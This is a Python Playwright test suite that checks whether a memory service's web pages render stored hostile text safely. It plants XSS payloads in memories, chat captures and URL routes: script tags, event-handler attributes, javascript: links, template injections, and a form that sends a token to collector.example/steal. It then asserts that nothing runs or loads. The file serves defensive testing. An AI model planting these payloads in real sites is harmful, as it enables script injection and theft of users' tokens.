"""What is remembered comes from anywhere: it is shown as it was said, and never run, followed or loaded."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from browsing import Server, Tab, Visit
from playwright.sync_api import expect

MARK = "pwnedword"
"""In each text, to find it by; what a text would make of itself has it as an attribute."""

OUTSIDE = "https://collector.example"

HOSTILE = {
    "script": f"{MARK} <script data-pwned>alert('script')</script>",
    "closing script": f"{MARK} </script><script data-pwned>alert('closing')</script>",
    "image": f'{MARK} <img data-pwned src="{OUTSIDE}/x.png" onerror="alert(1)">',
    "svg": f"{MARK} <svg data-pwned onload=\"alert('svg')\"><a href='javascript:alert(2)'>x</a></svg>",
    "frame": f'{MARK} <iframe data-pwned src="{OUTSIDE}/"></iframe><object data-pwned data="{OUTSIDE}/o"></object>',
    "link": f'{MARK} "><a data-pwned href="javascript:alert(\'link\')">click me</a>',
    "markdown": f"{MARK} [click](javascript:alert(3)) ![pixel]({OUTSIDE}/pixel.png) <{OUTSIDE}/auto>",
    "style": f"{MARK} <style data-pwned>* {{ display: none !important }}</style>",
    "sheet": f'{MARK} <link data-pwned rel="stylesheet" href="{OUTSIDE}/x.css"><base data-pwned href="{OUTSIDE}/">',
    "refresh": f'{MARK} <meta data-pwned http-equiv="refresh" content="0;url={OUTSIDE}/">',
    "form": f'{MARK} <form data-pwned action="{OUTSIDE}/steal"><input name="token" autofocus></form>',
    "attribute": f"{MARK} ' onmouseover='alert(4)' x='\" onfocus=\"alert(5)\" autofocus=\"",
    "template": f"{MARK} {{{{constructor.constructor('alert(6)')()}}}} ${{alert(7)}} <%= alert(8) %>",
    "mark": f"{MARK} <mark data-pwned>forged highlight</mark><dialog data-pwned open>forged dialog</dialog>",
    "direction": f"{MARK} \u202egnp.exe\u202c \u2066isolated\u2069 \u200bzero\u200d width",
    "endless": f"{MARK} " + "w" * 3_000,
    "prototype": f"{MARK} __proto__ constructor toString",
}

LOOKED_FOR = (
    "[data-pwned], main script, main img, main iframe, main object, main link, main meta, main base, main form[action]"
)


@pytest.fixture(scope="module")
def planted(sample: Server) -> dict[str, str]:
    """Hostile texts as statements, tags, topics, scopes, sources and conversations; the ids of the statements."""
    ids = {}
    for number, (name, text) in enumerate(HOSTILE.items()):
        ids[name] = sample.remember(
            text,
            topic=text[:200],
            tags=[text[:200]],
            source_kind="web",
            source_ref=text[:200],
            scope=f'{number} <img data-pwned src=x onerror="alert(9)">',
            subject=text[:200],
            attribute="<b data-pwned>",
            value=text[:200],
        )
    messages = [{"role": "user", "speaker": text[:60], "content": text} for text in HOSTILE.values()]
    sample.post("/v1/capture", session='<img data-pwned src=x onerror="alert(10)">', messages=messages)
    return ids


@pytest.fixture
def visit(tab: Tab, sample: Server, planted: dict[str, str]) -> Iterator[Visit]:
    with tab.visit(sample) as one:
        yield one


def harmless(visit: Visit) -> None:
    """Nothing of theirs is an element, nothing was run, and nothing was sent for; the rest `visiting` sees to."""
    assert visit.page.locator(LOOKED_FOR).count() == 0
    assert visit.page.locator("a[href]:not([href^='#'])").count() == 0
    assert visit.page.locator("html").is_visible()
    assert visit.too_wide() == []


def test_hostile_texts_found_by_a_search_are_shown_as_they_are(visit: Visit) -> None:
    visit.go(f"#/search?q={MARK}&limit=60&quarantined=yes")
    for name, text in HOSTILE.items():
        # An excerpt is never cut within a word: of an endless one nothing is shown.
        shown = f"{MARK} …" if name == "endless" else text[:120]
        expect(visit.hits.filter(has_text=shown).first).to_be_visible()
    visit.button("Why this?").evaluate_all("(all) => all.forEach((each) => each.click())")
    expect(visit.page.locator("button[aria-expanded=true]", has_text="Why this?").nth(len(HOSTILE) - 1)).to_be_visible()
    harmless(visit)


def test_hostile_texts_are_shown_as_they_are_on_their_pages(visit: Visit, planted: dict[str, str]) -> None:
    for name, id in planted.items():
        visit.go(f"#/memory/{id}")
        assert MARK in visit.page.locator(".said").inner_text(), name
        harmless(visit)
        visit.button("Edit").click()
        assert visit.page.get_by_label("Text").input_value() == HOSTILE[name]
        harmless(visit)


def test_no_view_runs_what_it_lists(visit: Visit) -> None:
    for route in ("#/", "#/timeline", "#/receipts", "#/health"):
        visit.go(route)
        harmless(visit)


def test_the_receipt_of_a_hostile_question_shows_it_as_it_was_asked(visit: Visit, sample: Server) -> None:
    recalled = sample.post("/v1/recall", query=HOSTILE["image"])
    visit.go(f"#/receipts/{recalled['receipt']['id']}")
    visit.button("Replay").click()
    visit.settled()
    harmless(visit)


@pytest.mark.parametrize("route", ["#/search?q={}", "#/memory/{}", "#/receipts/{}", "#/{}", "#/timeline?event={}"])
def test_an_address_is_no_way_in(visit: Visit, route: str) -> None:
    """What a link from outside puts after the #."""
    visit.statuses = {404, 422}
    for text in (HOSTILE["script"], HOSTILE["image"], "javascript:alert(11)", "//collector.example"):
        visit.go(route.format(quote(text, safe="")))
        harmless(visit)
    for broken in ("%", "%E0%A4%A", "<img data-pwned src=x onerror=alert(12)>"):
        visit.go(route.format(broken))
        harmless(visit)
